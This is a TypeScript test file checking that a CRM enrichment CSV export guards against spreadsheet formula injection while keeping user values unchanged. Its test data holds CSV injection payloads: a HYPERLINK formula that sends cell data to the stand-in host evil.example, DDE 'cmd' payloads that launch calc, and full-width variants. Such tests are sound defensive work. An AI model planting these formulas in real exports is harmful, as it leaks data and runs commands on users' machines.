/**
 * The CRM CSV (the enrich rows table) against spreadsheet formula injection, read back by Python's csv module: every
 * cell of text from the service (a company name) that starts like a formula (=, +, -, @, their full-width forms
 * ＝ ＋ － ＠, tab, carriage return) is written with a leading single quote (OWASP's CSV injection guidance); the
 * user's own values (record id, kept columns, the input) are written byte for byte, as the CRM export held them, so
 * that importing the file back changes nothing the user wrote; every other value is written as it was, quotes, commas
 * and line breaks included.
 */
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { encodeJobTables } from '../../../activities/jobs/tables.ts';
import type { JobRef } from '../../../activities/jobs/types.ts';
import { readCsvWithPython } from '../../helpers/tables.ts';

const PLANTED = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝HYPERLINK("http://evil.example")',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
];
const PLAIN = ['Acme, Inc.', 'O\'Brien "Quoted" Ltd', 'two\nlines', 'café 東京', "'already quoted"];

const job: JobRef = { jobId: 'csv', kind: 'enrich', output: 'file:///unused', formats: ['csv'] };

function line(i: number, name: string, kept: string) {
  return {
    domain: `c${i}.com`,
    status: 'ok',
    row: i + 1,
    input: `c${i}.com`,
    record_id: i % 2 === 0 ? name : `00${i}`,
    matched_by: 'domain',
    columns: { Owner: kept, Notes: name },
    company: { name, domain: `c${i}.com` },
    signals: [],
    signal_summary: {},
  };
}

async function roundTrip(values: readonly string[]): Promise<Record<string, string>[]> {
  const lines = values.map((value, i) => line(i, value, value));
  const [part] = encodeJobTables(job, 'csv/parts/part-00000.jsonl.gz', lines);
  expect(part?.key).toBe('csv/tables/rows/part-00000.csv');
  const path = join(await mkdtemp(join(tmpdir(), 'signal-kit-csv-')), 'rows.csv');
  await writeFile(path, part?.body ?? Buffer.alloc(0));
  const [header, ...rows] = await readCsvWithPython(path);
  return rows.map((cells) => Object.fromEntries((header ?? []).map((name, i) => [name, cells[i] ?? ''])));
}

describe('CRM CSV: formula injection', () => {
  it("neutralizes a formula planted in the service's text with a leading quote, ASCII and full-width", async () => {
    const rows = await roundTrip(PLANTED);
    expect(rows).toHaveLength(PLANTED.length);
    PLANTED.forEach((planted, i) => {
      const row = rows[i] as Record<string, string>;
      expect(row['company_name'], 'company_name').toBe(`'${planted}`);
    });
    // No cell of the service's text starts like a formula.
    const ours = (column: string) => !['Owner', 'Notes', 'record_id', 'input'].includes(column);
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row))
        if (ours(column)) expect(/^[=+\-@\t\r＝＋－＠]/.test(cell), `${column}: ${cell}`).toBe(false);
    }
  });

  it("writes the user's own values byte for byte: record id, kept columns", async () => {
    const values = [...PLANTED, '+1 425 555 0101', '-Wingtip Toys', "'quoted by the user"];
    const rows = await roundTrip(values);
    values.forEach((value, i) => {
      const row = rows[i] as Record<string, string>;
      for (const column of ['Owner', 'Notes']) expect(row[column], column).toBe(value);
      if (i % 2 === 0) expect(row['record_id']).toBe(value);
    });
  });

  it('writes every other value as it was: commas, quotes, line breaks, UTF-8', async () => {
    const rows = await roundTrip(PLAIN);
    PLAIN.forEach((value, i) => {
      const row = rows[i] as Record<string, string>;
      expect(row['company_name']).toBe(value);
      expect(row['Owner']).toBe(value);
      expect(row['record_id']).toBe(i % 2 === 0 ? value : `00${i}`);
      expect(row['signal_count']).toBe('0');
    });
  });
});

describe('kept columns in the tables', () => {
  it('a column kept as the user spelled it (`--keep-columns owner`) holds the values under the header the input has', async () => {
    const lines = [line(0, 'Acme', '+1 425 555 0101')];
    const [part] = encodeJobTables({ ...job, keepColumns: ['owner', 'NOTES'] }, 'csv/parts/part-00000.jsonl.gz', lines);
    const path = join(await mkdtemp(join(tmpdir(), 'signal-kit-csv-')), 'rows.csv');
    await writeFile(path, part?.body ?? Buffer.alloc(0));
    const [header, row] = await readCsvWithPython(path);
    expect(header?.slice(-2)).toEqual(['Owner', 'Notes']);
    expect(row?.slice(-2)).toEqual(['+1 425 555 0101', 'Acme']);
  });
});
